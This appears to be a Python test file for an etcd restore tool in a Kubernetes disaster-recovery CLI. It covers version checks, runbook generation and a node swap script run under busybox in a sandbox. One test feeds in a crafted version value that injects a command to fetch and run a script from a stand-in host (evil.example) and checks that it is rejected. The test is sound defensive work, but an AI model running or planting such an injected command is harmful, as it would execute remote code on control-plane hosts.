"""The pure parts of `etcd restore`: version rules, paths the node pods see, the status file, the runbook; and
the node script's refusals run by real busybox in a sandbox whose /host/... are temporary directories."""

from __future__ import annotations

import http.server
import re
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

from kubectl_dr.errors import DrError
from kubectl_dr.etcd.restore import common, job, nodescript
from kubectl_dr.etcd.restore.runbook import runbook
from kubectl_dr.etcd.restore.source import LocalSnapshot, local_snapshot, minor_of
from kubectl_dr.etcd.restore.targets import DR_DIR, Target, host_path_of
from kubectl_dr.etcd.snapshot_file import verify_snapshot
from kubectl_dr.etcd.topology import StaticMember
from kubectl_dr.repo import LocalRepository
from kubectl_dr.runs import Run
from kubectl_dr.ui.console import TerminalConsole
from tests.unit.etcd_scratch import ScratchEtcd, etcd_available

BUSYBOX = "/usr/bin/busybox"


def swap(**changes: object) -> nodescript.NodeSwap:
    values: dict[str, object] = dict(
        run_id="20260101T000000Z-abcdef", mode="restore", node="cp-1", kubernetes_dir="/etc/kubernetes",
        manifests_dir="/etc/kubernetes/manifests", data_dir="/var/lib/etcd",
        incoming="/var/lib/etcd.restored-20260101T000000Z-abcdef", aside="/var/lib/etcd.before-20260101T000000Z-abcdef",
        dr_dir="/var/lib/kubectl-dr/restore", health_url="http://127.0.0.1:1/health?serializable=false",
        metrics_url="http://127.0.0.1:1/metrics", peers=2, readyz_url="https://127.0.0.1:1/readyz")
    values.update(changes)
    return nodescript.NodeSwap(**values)  # type: ignore[arg-type]


def test_paths_inside_the_pods() -> None:
    s = swap()
    assert s.in_pod("/var/lib/etcd") == f"{nodescript.HOST_DATA_PARENT}/etcd"
    assert s.in_pod("/var/lib/kubectl-dr/restore/x/status-restore") == f"{nodescript.HOST_DR}/x/status-restore"
    assert s.in_pod("/etc/kubernetes/manifests") == f"{nodescript.HOST_KUBERNETES}/manifests"
    assert s.parked_dir == "/etc/kubernetes/kubectl-dr/20260101T000000Z-abcdef-restore"
    with pytest.raises(ValueError, match="outside"):
        s.in_pod("/root/secret")
    # The data dir deeper down: only its parent is mounted.
    deep = swap(data_dir="/data/etcd/member0", incoming="/data/etcd/member0.restored-x",
                aside="/data/etcd/member0.before-x")
    assert deep.in_pod(deep.incoming) == f"{nodescript.HOST_DATA_PARENT}/member0.restored-x"


def test_static_pod_mounts_and_restarts() -> None:
    pod = nodescript.static_pod(swap(), "busybox:1.37")
    spec = pod["spec"]
    assert spec["hostNetwork"] is True and spec["restartPolicy"] == "Always"
    assert {v["hostPath"]["path"] for v in spec["volumes"]} == {"/etc/kubernetes", "/var/lib",
                                                                 "/var/lib/kubectl-dr/restore"}
    command = spec["containers"][0]["command"]
    assert command[:2] == ["sh", "-c"] and "PEERS=2\n" in command[2] and "MODE=restore\n" in command[2]


def test_status_file_lines() -> None:
    rows = nodescript.parse_status("1 start restore on cp-1\n2 stopped-etcd\ngarbage\n3 rolling-back why: a b\n")
    assert rows == [(1, "start", "restore on cp-1"), (2, "stopped-etcd", ""), (3, "rolling-back", "why: a b")]


def test_host_path_of_longest_mount() -> None:
    pod = {"spec": {"volumes": [{"name": "data", "hostPath": {"path": "/mnt/etcd"}},
                                {"name": "root", "hostPath": {"path": "/srv"}}]}}
    container = {"volumeMounts": [{"name": "root", "mountPath": "/var"},
                                  {"name": "data", "mountPath": "/var/lib/etcd"}]}
    assert host_path_of(pod, container, "/var/lib/etcd") == "/mnt/etcd"
    assert host_path_of(pod, container, "/var/lib/other") == "/srv/lib/other"
    assert host_path_of(pod, container, "/opt/x") is None


@pytest.mark.parametrize(("image", "version"), [("registry.k8s.io/etcd:3.5.16-0", "3.5.16"),
                                                ("localhost:5000/etcd:v3.4.13-0", "3.4.13"),
                                                ("registry.k8s.io/etcd", None),
                                                ("quay.io/coreos/etcd:latest", None)])
def test_image_versions(image: str, version: str | None) -> None:
    assert job.image_version(image) == version


def test_bump_needs_etcdctl_3_5_10() -> None:
    assert common.version_tuple("3.5.9") < job.BUMP_SINCE <= common.version_tuple("3.5.10")
    assert minor_of("3.5.16") == "3.5" and minor_of("v3.4.23") == "3.4" and minor_of(None) is None


@pytest.fixture(scope="module")
def snapshot_34(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not etcd_available():
        pytest.skip("etcd not installed")
    work = tmp_path_factory.mktemp("restore-snap")
    with ScratchEtcd(work, name="v34") as etcd:
        etcd.put(b"/registry/configmaps/a/b", b"x")
        return etcd.snapshot_save(work / "s.db")


def local(path: Path, version: str | None) -> LocalSnapshot:
    return LocalSnapshot(path, verify_snapshot(path), version, None, path.parent, {})


def test_snapshot_versions_must_match(snapshot_34: Path, tmp_path: Path) -> None:
    found = local_snapshot(str(snapshot_34), LocalRepository(tmp_path / "repo"), TerminalConsole())
    # etcd keeps its cluster version in the database ("3.4.0", "3.5.0"): a plain file says where it is from.
    assert found.version == "3.4.0" and found.backup_id is None and found.runbook_dir == snapshot_34.parent
    common.check_snapshot(found, "3.4.23")
    with pytest.raises(DrError, match=re.escape("the snapshot is from etcd 3.4.0 but the cluster runs etcd 3.5.16")):
        common.check_snapshot(found, "3.5.16")
    with pytest.raises(DrError, match="does not say which etcd wrote it"):
        common.check_snapshot(local(snapshot_34, None), "3.5.16")
    with pytest.raises(DrError, match=re.escape("the snapshot is from etcd 3.5.16 but the cluster runs etcd 3.4.23")):
        common.check_snapshot(local(snapshot_34, "3.5.16"), "3.4.23")
    common.check_snapshot(local(snapshot_34, "3.5.0"), "3.5.16")


# ------------------------------------------------------------------------ the node script, run by busybox
def run_script(tmp_path: Path, s: nodescript.NodeSwap) -> tuple[list[tuple[int, str, str]], Path]:
    """The script in bwrap with the three host directories bound where the static pod mounts them; it ends by
    removing its manifest and sleeping, so it is stopped once its last status line is terminal."""
    host = tmp_path / "host"
    dirs = {nodescript.HOST_KUBERNETES: host / "etc-kubernetes", nodescript.HOST_DATA_PARENT: host / "var-lib",
            nodescript.HOST_DR: host / "kubectl-dr"}
    for d in dirs.values():
        d.mkdir(parents=True, exist_ok=True)
    (dirs[nodescript.HOST_KUBERNETES] / "manifests").mkdir(exist_ok=True)
    bind = [a for inside, outside in dirs.items() for a in ("--bind", str(outside), inside)]
    bwrap = shutil.which("bwrap")
    if bwrap is None:
        pytest.skip("bwrap not installed")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for applet in ("sh", "mv", "mkdir", "dirname", "date", "echo", "grep", "wget", "sleep", "rm", "hostname"):
        (bin_dir / applet).symlink_to(BUSYBOX) if not (bin_dir / applet).exists() else None
    status = dirs[nodescript.HOST_DR] / s.run_id / f"status-{s.mode}"
    # Nothing but busybox and the three directories, as in the static pod's busybox image.
    proc = subprocess.Popen([bwrap, "--tmpfs", "/", "--dev", "/dev", "--proc", "/proc", "--ro-bind", BUSYBOX, BUSYBOX,
                             "--ro-bind", str(bin_dir), "/bin", *bind, "--setenv", "PATH", "/bin",
                             "--die-with-parent", "sh", "-c", nodescript.script(s)],
                            stdout=subprocess.DEVNULL, stderr=(tmp_path / "script.log").open("wb"))
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            rows = nodescript.parse_status(status.read_text()) if status.exists() else []
            if rows and rows[-1][1] in nodescript.TERMINAL:
                time.sleep(0.3)  # the manifest goes right after the last line
                return rows, host
            time.sleep(0.1)
        raise AssertionError(f"no terminal status: {status.read_text() if status.exists() else 'none'}")
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.skipif(not Path(BUSYBOX).exists(), reason="busybox not installed")
def test_node_script_refuses_without_the_restored_dir(tmp_path: Path) -> None:
    s = swap()
    host = tmp_path / "host"
    manifests = host / "etc-kubernetes" / "manifests"
    manifests.mkdir(parents=True)
    for name in ("etcd.yaml", *nodescript.OTHERS, nodescript.MANIFEST_FILE):
        (manifests / name).write_text(name)
    (host / "var-lib" / "etcd").mkdir(parents=True)
    rows, _ = run_script(tmp_path, s)
    assert [r[1] for r in rows] == ["start", "failed"]
    assert "is missing: nothing was changed" in rows[-1][2]
    # Nothing moved; only its own manifest is gone.
    assert sorted(p.name for p in manifests.iterdir()) == sorted(["etcd.yaml", *nodescript.OTHERS])
    assert (host / "var-lib" / "etcd").is_dir()


def node_host(tmp_path: Path, s: nodescript.NodeSwap) -> tuple[Path, Path, Path, Path]:
    """A node's host directories mid-restore: (host, manifests/ holding the script's own manifest, the park
    directory, /var/lib); the caller puts the other manifests and data dirs where its case needs them."""
    host = tmp_path / "host"
    manifests = host / "etc-kubernetes" / "manifests"
    parked = host / "etc-kubernetes" / "kubectl-dr" / f"{s.run_id}-restore"
    var = host / "var-lib"
    for d in (manifests, parked, var):
        d.mkdir(parents=True)
    (manifests / nodescript.MANIFEST_FILE).write_text("self")
    return host, manifests, parked, var


@pytest.mark.skipif(not Path(BUSYBOX).exists(), reason="busybox not installed")
def test_node_script_rolls_back_when_its_pod_restarted(tmp_path: Path) -> None:
    """A status file that says the swap started but never committed: the script puts everything back."""
    s = swap(stop_timeout=2, health_timeout=1, api_timeout=1)
    host, manifests, parked, var = node_host(tmp_path, s)
    for name in ("etcd.yaml", *nodescript.OTHERS):
        (parked / name).write_text(name)
    # Killed between the two moves: the old data aside, the restored one not yet in place.
    (var / "etcd.before-20260101T000000Z-abcdef").mkdir()
    (var / "etcd.before-20260101T000000Z-abcdef" / "old").write_text("old data")
    (var / "etcd.restored-20260101T000000Z-abcdef").mkdir()
    status = host / "kubectl-dr" / s.run_id / "status-restore"
    status.parent.mkdir(parents=True)
    status.write_text("1 start restore on cp-1\n2 stopped-control-plane\n3 stopped-etcd\n")
    rows, _ = run_script(tmp_path, s)
    steps = [r[1] for r in rows]
    assert steps[3:5] == ["rolling-back", "restored-data-dir"] and steps[-1] == "rolled-back", rows
    assert (var / "etcd" / "old").read_text() == "old data"
    assert (var / "etcd.restored-20260101T000000Z-abcdef").is_dir()
    assert not (var / "etcd.before-20260101T000000Z-abcdef").exists()
    assert sorted(p.name for p in manifests.iterdir()) == sorted(["etcd.yaml", *nodescript.OTHERS])
    assert not list(parked.iterdir())


class _AlwaysHealthy(http.server.BaseHTTPRequestHandler):
    """An etcd that keeps answering after its manifest left (a kubelet that does not stop it)."""

    def do_GET(self) -> None:
        body = b'{"health":"true"}'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.mark.skipif(not Path(BUSYBOX).exists(), reason="busybox not installed")
def test_a_rollback_never_moves_data_under_a_live_etcd(tmp_path: Path) -> None:
    """Swapped, then the pod restarted: the rollback parks etcd, but etcd still answers. Moving the dirs now
    would let it write into the data from before the restore, so nothing moves and the run says so."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AlwaysHealthy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        s = swap(stop_timeout=2, health_timeout=1, api_timeout=1,
                 health_url=f"http://127.0.0.1:{port}/health?serializable=false")
        host, manifests, parked, var = node_host(tmp_path, s)
        (manifests / "etcd.yaml").write_text("etcd.yaml")
        for name in nodescript.OTHERS:
            (parked / name).write_text(name)
        (var / "etcd.before-20260101T000000Z-abcdef").mkdir()
        (var / "etcd.before-20260101T000000Z-abcdef" / "old").write_text("old data")
        (var / "etcd").mkdir()
        (var / "etcd" / "new").write_text("restored data")
        status = host / "kubectl-dr" / s.run_id / "status-restore"
        status.parent.mkdir(parents=True)
        status.write_text("1 start restore on cp-1\n2 stopped-control-plane\n3 stopped-etcd\n4 swapped /var/lib/etcd\n")
        rows, _ = run_script(tmp_path, s)
    finally:
        server.shutdown()
        server.server_close()
    assert rows[-1][1] == "rollback-failed", rows
    assert "nothing was moved under it" in rows[-1][2]
    assert (var / "etcd.before-20260101T000000Z-abcdef" / "old").read_text() == "old data"
    assert (var / "etcd" / "new").read_text() == "restored data"
    assert not (var / "etcd.restored-20260101T000000Z-abcdef").exists()


def test_a_recorded_version_is_a_version_or_ignored(snapshot_34: Path, tmp_path: Path) -> None:
    """The etcd version in a manifest is printed into the runbook's shell text: a crafted one (a newline and
    a command) is not taken; the snapshot's own cluster version is used instead."""
    repo = LocalRepository(tmp_path / "repo")
    ids = {}
    for name, version in (("good", "v3.4.23"), ("evil", "3.4.23\ncurl -s http://evil.example | sh")):
        with repo.create("etcd-snapshot", {"member": name}, name) as writer:
            with writer.open_part("snapshot.db") as part:
                part.write(snapshot_34.read_bytes())
            ids[name] = writer.commit({"etcdVersion": version}).id
    assert local_snapshot(ids["good"], repo, TerminalConsole()).version == "v3.4.23"
    evil = local_snapshot(ids["evil"], repo, TerminalConsole())
    assert evil.version == "3.4.0"


# ----------------------------------------------------------------------------------------------- the runbook
def plan_for(version: str, data_dir: Path, snapshot: Path) -> job.Plan:
    peer = "https://10.0.0.1:2380"
    member = StaticMember(node="cp-1", pod="etcd-cp-1", image=f"registry.k8s.io/etcd:{version}-0", ready=True,
                          name="cp-1", client_url="https://10.0.0.1:2379", advertise_client_urls=(),
                          listen_client_urls=(), server_files={}, client_files=(), certs_volume={})
    target = Target(member=member, peer_urls=(peer,), data_dir=str(data_dir), data_dir_in_pod="/var/lib/etcd",
                    metrics_url="http://127.0.0.1:2381", readyz_url="https://10.0.0.1:6443/readyz",
                    initial_cluster=f"cp-1={peer}")
    bump = common.version_tuple(version) >= job.BUMP_SINCE
    return job.Plan(run=Run("etcd restore --from latest"), targets=[target], snapshot=local(snapshot, version),
                    image=member.image, tool_version=version, bump=bump, token="kubectl-dr-test-0000",
                    initial_cluster=f"cp-1={peer}", cluster_version=version, revision_before=None,
                    helper_image="busybox", namespace="kube-system")


@pytest.mark.parametrize(("version", "tools", "command"), [
    ("3.4.23", "/usr/bin", "ETCDCTL_API=3 etcdctl snapshot restore "),
    ("3.5.16", "/opt/etcd-3.5/usr/bin", "etcdutl snapshot restore "),
])
def test_runbook_restores_with_the_tool_of_the_etcd_version(snapshot_34: Path, tmp_path: Path, version: str,
                                                             tools: str, command: str) -> None:
    """etcd 3.4 has no etcdutl: its runbook restores with etcdctl; 3.5's with etcdutl (and the bump). The restore
    line, as printed, runs with that version's own binaries."""
    if not Path(tools, command.split()[-3]).exists():
        pytest.skip(f"etcd {version} binaries not installed")
    p = plan_for(version, tmp_path / "etcd", snapshot_34)
    book = runbook(p)
    [line] = [x for x in book.splitlines() if "snapshot restore" in x]
    assert line.startswith(command), line
    assert ("--bump-revision 1000000000 --mark-compacted" in line) == version.startswith("3.5"), line
    assert ("etcdutl" in book) == version.startswith("3.5"), book
    line = line.replace(f"{DR_DIR}/{p.run.id}/snapshot.db", str(snapshot_34))
    done = subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=60,
                          env={"PATH": f"{tools}:/usr/bin:/bin"})
    assert done.returncode == 0, done.stderr
    assert (tmp_path / f"etcd.restored-{p.run.id}" / "member" / "snap" / "db").is_file()


def _plan(members: int) -> job.Plan:
    from types import SimpleNamespace

    from kubectl_dr.etcd.restore.targets import Target
    from kubectl_dr.runs import Run

    targets = [Target(member=SimpleNamespace(node=f"cp-{i}", name=f"cp-{i}"),  # type: ignore[arg-type]
                      peer_urls=(f"https://10.0.0.{i}:2380",), data_dir="/var/lib/etcd",
                      data_dir_in_pod="/var/lib/etcd",
                      metrics_url=f"http://10.0.0.{i}:2381", readyz_url=f"https://10.0.0.{i}:6443/readyz",
                      initial_cluster="") for i in range(1, members + 1)]
    return job.Plan(run=Run("etcd restore"), targets=targets, snapshot=None, image="registry.k8s.io/etcd:3.5.16-0",
                    tool_version="3.5.16", bump=True, token="t", initial_cluster="", cluster_version="3.5",
                    revision_before=None, helper_image="busybox", namespace="kube-system")


@pytest.mark.parametrize(("members", "words"), [
    (1, "wait until it is healthy (the only member: no peers to wait for)"),
    (2, "wait for a quorum and its peer"),
    (3, "wait for a quorum and all 2 peers"),
])
def test_the_plan_waits_for_the_peers_there_are(members: int, words: str) -> None:
    plan = _plan(members)
    step = plan.node_steps(plan.targets[0])[-1]
    assert f"etcd back, {words}, then the rest back" in step
    assert "0 peers" not in step


@pytest.mark.skipif(not Path(BUSYBOX).exists(), reason="busybox not installed")
def test_every_set_aside_dir_is_found_and_named(tmp_path: Path) -> None:
    """The listing (real busybox sh) finds each run's dirs beside the data dir, and each is told for what it is:
    only what no run in progress needs, and no later step can use, is finalize's to remove."""
    from kubectl_dr.etcd.restore import manage

    data, dr = tmp_path / "etcd-parent", tmp_path / "dr"
    runs = {  # run: (dir set aside, status-restore, status-rollback, marks)
        "A": ("before", "done", "", ""), "B": ("restored", "", "", "aborted"), "C": ("restored", "done", "done", ""),
        "D": ("before", "stopped-etcd", "", ""), "E": ("before", "done", "", ""), "F": ("restored", "", "", ""),
        "G": ("restored", "rolled-back", "", ""), "H": ("before", "done", "rollback-failed", "")}
    (data / "etcd").mkdir(parents=True)
    for run, (kind, restore, rollback, marks) in runs.items():
        (data / f"etcd.{kind}-{run}").mkdir()
        d = dr / run
        d.mkdir(parents=True)
        (d / "record.json").write_text("{}")
        for mode, step in (("restore", restore), ("rollback", rollback)):
            if step:
                (d / f"status-{mode}").write_text(f"1 start\n2 {step} detail words\n")
        if marks:
            (d / marks).touch()
    (data / "etcd.before-x y").mkdir()  # not a run of ours: listed, never removed
    out = subprocess.run([BUSYBOX, "sh", "-c", manage.set_aside_script(str(data / "etcd"), str(dr))],
                         capture_output=True, text=True, check=True).stdout
    found = {a.path: a for a in manage.parse_set_aside(out, "/var/lib/etcd", current="E")}
    removable = {p.rsplit("/", 1)[-1] for p, a in found.items() if a.removable}
    assert removable == {"etcd.before-A", "etcd.restored-B", "etcd.restored-C", "etcd.before-E",
                         "etcd.restored-F", "etcd.restored-G"}
    assert set(found) - {f"/var/lib/{r}" for r in removable} == {
        "/var/lib/etcd.before-D", "/var/lib/etcd.before-H", "/var/lib/etcd.before-x y"}
    what = {p.rsplit("-", 1)[-1]: a.what for p, a in found.items()}
    assert "the last restore: `rollback` puts it back" in what["E"]
    assert "an earlier restore a later one replaced" in what["A"]
    assert "set aside by its rollback" in what["C"] and "aborted before its hand-over" in what["B"]
    assert "still in progress" in what["D"] and "could not put its data dirs back" in what["H"]
    assert "killed before its hand-over" in what["F"] and "rolled-back on this node" in what["G"]
